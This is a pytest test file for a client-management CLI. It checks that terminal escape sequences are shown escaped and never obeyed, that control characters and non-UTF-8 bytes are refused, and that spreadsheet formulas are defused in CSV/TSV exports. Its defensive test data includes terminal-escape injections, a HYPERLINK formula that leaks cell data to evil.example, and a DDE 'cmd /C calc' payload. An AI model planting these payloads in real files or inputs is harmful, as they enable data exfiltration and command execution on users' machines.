"""User text is data: it never steers a terminal and never runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import sys
from pathlib import Path

import pytest

from cli_util import ok
from proc_util import project_env, run_on_pty

HOSTILE = "Eve\x1b[31mRED\x1b]0;PWNED\x07\x1b[2J"
SHOWN = "Eve\\x1b[31mRED\\x1b]0;PWNED\\x07\\x1b[2J"
# What the hostile text would do if obeyed (Rich's own styling of headers is allowed).
OBEYED = [b"\x1b[31m", b"\x1b]0;", b"\x07", b"\x1b[2J", b"\xc2\x9b"]


@pytest.fixture
def hostile(practice, data_dir: Path):  # type: ignore[no-untyped-def]
    """A client whose name holds terminal escapes: only a hand-edited file can do that."""
    assert practice("client", "add", "eve", "--name", "Eve", "--notes", "line one").exit_code == 0
    assert practice("package", "create", "five", "--name", "5 massages", "--service", "massage=5", "--price", "400").exit_code == 0
    assert practice("sell", "eve", "five").exit_code == 0
    journal = data_dir / "journal.jsonl"
    lines = journal.read_bytes().splitlines(keepends=True)
    edited = []
    for line in lines:
        if b'"type":"client-added"' in line and b'"id":"eve"' in line:
            record = json.loads(line)
            record["client"]["name"] = HOSTILE
            record["client"]["notes"] = "note\x1b[2Jgone\x9b"
            line = (json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False) + "\n").encode()
        edited.append(line)
    journal.write_bytes(b"".join(edited))
    # An edited line is never taken in unasked: the documented way to mean it is to delete the view it names.
    (data_dir / "views" / "clients" / "eve.json").unlink()
    assert practice("check", "--rebuild").exit_code == 0
    return practice


@pytest.mark.parametrize("args", [("client", "list"), ("client", "show", "eve"), ("history", "eve"), ("balance", "eve"),
                                  ("balance",), ("client", "list", "--format", "csv"), ("client", "list", "--format", "tsv"),
                                  ("history", "eve", "--format", "csv"), ("client", "show", "eve", "--format", "json")])
def test_escapes_from_a_hand_edited_file_are_shown_never_obeyed_on_a_terminal(hostile, data_dir: Path, args: tuple[str, ...]) -> None:
    env = project_env({"SESSIONPACK_NOW": "2026-11-20T09:00"})
    code, out = run_on_pty([sys.executable, "-m", "sessionpack", "--data-dir", str(data_dir), *args], env)
    assert code == 0, out
    for raw in OBEYED:
        assert raw not in out, (args, raw, out)
    if "json" in args:
        assert b"Eve\\u001b[31mRED" in out
    elif args[0] == "client":
        assert b"Eve\\x1b[31mRED" in out, out  # shown (a narrow table may wrap the rest)


def test_plain_output_and_messages_escape_too(hostile, data_dir: Path) -> None:
    listed = ok(hostile("client", "list"))
    assert SHOWN in listed and "\x1b" not in listed
    shown = ok(hostile("client", "show", "eve"))
    assert "note\\x1b[2Jgone\\x9b" in shown and "\x1b" not in shown and "\x9b" not in shown
    data = json.loads(ok(hostile("client", "show", "eve", "--format", "json")))
    assert data["name"] == HOSTILE  # JSON keeps the data exactly, escaped by JSON itself
    raw = hostile("client", "show", "eve", "--format", "json").stdout
    assert "\x9b" not in raw and "\\u009b" in raw


@pytest.mark.parametrize("field, value", [("--name", "Eve\x1b[31m"), ("--name", "bell\x07"), ("--name", "c1\x9b2J"),
                                          ("--name", "back\x08space"), ("--name", "del\x7f"),
                                          ("--name", "Eve \u202eevil"), ("--name", "iso\u2067late")])
def test_control_characters_are_refused_where_text_is_typed(practice, data_dir: Path, field: str, value: str) -> None:
    from sessionpack.domain.text import CONTROL_RE

    result = practice("client", "add", "zed", field, value)
    assert (result.exit_code, result.stdout) == (2, "")
    found = ord(CONTROL_RE.search(value).group())
    code = f"\\x{found:02x}" if found <= 0xFF else f"\\u{found:04x}"
    assert result.stderr == (f"error: client name must be one line of printable text (it holds the control character {code}); "
                             "type it again without it\n")
    assert not (data_dir / "views" / "clients" / "zed.json").exists()


CONTROL_CHARACTERS = [
    (("--actor", "x\x1b[2J", "client", "add", "zed", "--name", "Zed"), "--actor must be a name of one line, at most 100 characters"),
    (("sell", "ana", "five", "--invoice", "A\x1b1"), "--invoice must be one line of printable text (it holds the control character \\x1b); type it again without it"),
    (("sell", "ana", "five", "--ref", "r\x07"), "--ref must be one line of printable text (it holds the control character \\x07); type it again without it"),
    (("book", "ana", "massage", "2026-12-01T10:00", "--provider", "Jo\x1b[2J"), "--provider must be one line of printable text (it holds the control character \\x1b); type it again without it"),
    (("pay", "ana.p1", "1", "--method", "card\x9b"), "--method must be one line of printable text (it holds the control character \\x9b); type it again without it"),
    (("adjust", "ana.p1", "--sessions", "+1", "--reason", "why\x1b]0;x\x07"), "--reason must be one line of 1 to 500 printable characters"),
    (("client", "edit", "ana", "--email", "a\x1b@b.com"), "email 'a\\x1b@b.com' is not an address like ana@example.com"),
]
# A byte that is not UTF-8 (0xE9, "é" in Latin-1) reaches Python as the lone surrogate U+DCE9.
NOT_UTF8 = [
    (("client", "add", "zed", "--name", "Caf\udce9"), "client name is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
    (("sell", "ana", "five", "--note", "x\udce9"), "--note is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
    (("sell", "ana", "five", "--ref", "r\udce9"), "--ref is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8"),
    (("--actor", "caf\udce9", "client", "add", "zed", "--name", "Zed"), "--actor must be a name of one line, at most 100 characters"),
    (("client", "edit", "ana", "--notes", "a\nb\udcff"), "notes is not UTF-8 text (it holds the byte \\xff); type it again in UTF-8"),
    (("adjust", "ana.p1", "--sessions", "+1", "--reason", "\udce9"), "--reason must be one line of 1 to 500 printable characters"),
]


@pytest.mark.parametrize("args, message", CONTROL_CHARACTERS + NOT_UTF8)
def test_every_one_line_field_refuses_control_characters_and_text_not_utf8(practice, data_dir: Path, args: tuple[str, ...],
                                                                         message: str) -> None:
    from tree import tree_hash

    assert practice("package", "create", "five", "--name", "5 massages", "--service", "massage=5", "--price", "400").exit_code == 0
    assert practice("sell", "ana", "five", "--paid", "100").exit_code == 0
    before = tree_hash(data_dir)
    result = practice(*args)
    assert (result.exit_code, result.stdout, result.stderr) == (2, "", f"error: {message}\n")
    assert tree_hash(data_dir) == before


def test_bytes_that_are_not_utf8_on_a_real_command_line_are_refused(practice, data_dir: Path) -> None:
    import subprocess

    from tree import tree_hash

    before = tree_hash(data_dir)
    env = {**project_env({"SESSIONPACK_NOW": "2026-11-20T09:00"}), "SESSIONPACK_ACTOR": "marta"}
    argv = [sys.executable.encode(), b"-m", b"sessionpack", b"--data-dir", bytes(data_dir), b"client", b"add", b"zed", b"--name", b"Caf\xe9"]
    done = subprocess.run(argv, capture_output=True, env=env)
    assert (done.returncode, done.stdout, done.stderr) == (2, b"", b"error: client name is not UTF-8 text (it holds the byte \\xe9); type it again in UTF-8\n")
    env_bytes = {key.encode(): value.encode() for key, value in env.items()} | {b"SESSIONPACK_ACTOR": b"caf\xe9"}
    done = subprocess.run(argv[:-5] + [b"client", b"add", b"zed", b"--name", b"Zed"], capture_output=True, env=env_bytes)
    assert (done.returncode, done.stderr) == (2, b"error: --actor must be a name of one line, at most 100 characters\n")
    assert tree_hash(data_dir) == before


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("fmt, delimiter", [("csv", ","), ("tsv", "\t")])
def test_formulas_in_text_cells_are_defused_and_numbers_are_not(practice, data_dir: Path, fmt: str, delimiter: str) -> None:
    for number, name in enumerate(FORMULAS[:4]):
        assert practice("client", "add", f"f{number}", "--name", name).exit_code == 0
    assert practice("package", "create", "credit", "--name", "Credit", "--pool", "money=300", "--price", "300").exit_code == 0
    assert practice("sell", "f0", "credit").exit_code == 0
    assert practice("--actor", "=cmd|' /C calc'!A0", "adjust", "f0.p1", "--money", "-5.50", "--reason", "+SUM(1)").exit_code == 0
    rows = cells(ok(practice("client", "list", "--format", fmt)), delimiter)
    names = {row[0]: row[1] for row in rows[1:]}
    assert [names[f"f{n}"] for n in range(4)] == ["'" + name for name in FORMULAS[:4]]
    history = cells(ok(practice("history", "f0.p1", "--format", fmt)), delimiter)
    flat = [cell for row in history for cell in row]
    assert "'=cmd|' /C calc'!A0" in flat and "'+SUM(1)" in flat
    assert not any(cell.startswith(("=", "+", "@")) for cell in flat)
    balance = cells(ok(practice("balance", "f0", "--format", fmt)), delimiter)
    assert "294.50" in [cell for row in balance for cell in row]  # amounts are never altered


def test_right_to_left_text_itself_is_welcome(practice) -> None:  # type: ignore[no-untyped-def]
    for cid, name in (("arab", "محمد علي"), ("heb", "שרה כהן"), ("fam", "Ana 👩\u200d👩\u200d👧")):  # (a joiner is no control)
        assert ok(practice("client", "add", cid, "--name", name)) == f"Added client {cid}\n"


def test_tsv_is_never_quoted(practice) -> None:  # type: ignore[no-untyped-def]
    assert practice("client", "add", "t", "--name", 'Say "hi"', "--notes", "a\tb\nc").exit_code == 0
    assert practice("client", "add", "q", "--name", '"quoted"').exit_code == 0
    lines = ok(practice("client", "list", "--format", "tsv")).splitlines()
    header = lines[0].split("\t")
    rows = {line.split("\t")[0]: dict(zip(header, line.split("\t"))) for line in lines[1:]}
    assert all(len(line.split("\t")) == len(header) for line in lines)
    assert (rows["t"]["name"], rows["q"]["name"]) == ('Say "hi"', '"quoted"')
    shown = ok(practice("client", "show", "t", "--format", "tsv")).splitlines()
    assert shown[1].split("\t")[shown[0].split("\t").index("notes")] == "a b c"  # (a tab or line break becomes a space)
    csv_rows = cells(ok(practice("client", "list", "--format", "csv")))
    assert {row[0]: row[1] for row in csv_rows[1:]}["t"] == 'Say "hi"'  # (CSV quotes it, and reads back the same)


def test_spreadsheet_rule_on_single_cells() -> None:
    from sessionpack.cli.output import delimited_cell

    assert [delimited_cell(v, False) for v in ("-5.00", "+3", "-", "2026-12-01", "ana.p1", "=1+1", "@x", "-x", "\tx")] == [
        "-5.00", "+3", "'-", "2026-12-01", "ana.p1", "'=1+1", "'@x", "'-x", "'\tx"]
    assert delimited_cell("\tx", True) == "' x"
    assert delimited_cell("a\nb", False) == "a\nb" and delimited_cell("a\nb", True) == "a b"
    assert delimited_cell("a\x1bb", False) == "a\\x1bb"
